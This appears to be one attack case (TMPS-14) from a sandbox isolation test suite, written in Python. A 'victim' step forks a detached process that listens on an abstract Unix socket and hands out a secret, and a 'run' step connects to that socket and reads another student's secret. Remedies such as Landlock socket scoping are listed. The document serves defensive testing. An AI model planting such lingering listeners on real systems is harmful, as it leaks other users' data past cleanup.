# SPDX-License-Identifier: MIT
"""survivor-socket.py - a letter box without a file.

Goal: another student's work.
Means: a unix socket whose name begins with a NUL byte is in no folder: its name lives in the
network namespace, open to every user, and no mode protects it. The first run leaves a process
behind that listens there and tells whoever calls.
"""

import os
import socket

from attack import DONE, attempting, denied, honest, loot

LIFE = 5


def run(brief):
    attempting()
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as caller:
            caller.settimeout(1)
            caller.connect(f"\0{brief.name}")
            text = caller.recv(256)
    except OSError as why:
        return denied("connect", why)
    loot(text)
    return DONE


def survive(box, secret):
    """Leave the session and every pipe, so that nobody waits for us, and answer one call."""
    os.setsid()
    os.closerange(0, box.fileno())
    os.closerange(box.fileno() + 1, 1024)
    box.settimeout(LIFE)
    box.accept()[0].sendall(secret.encode())


def victim(brief):
    try:
        box = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        box.bind(f"\0{brief.name}")
        box.listen()
        if os.fork() == 0:
            try:
                survive(box, brief.secret)
            finally:
                os._exit(0)
    except OSError:
        pass  # a refused survivor is the defence at work; the student's own work goes on
    return honest(brief)


ATTACK = {
    "effect": "the next student hears what the last one's process knows",
    "means": "a survivor behind an abstract unix socket, which is in no folder",
    "oracle": "secret:victim",
    "scene": "after-victim",
    "id": "TMPS-14",
    "attack_id": "T1005, T1559, CWE-459",
    "remedy": "end every process of a run; Landlock's abstract socket scope; no AF_UNIX sockets",
    "run": run,
    "victim": victim,
}
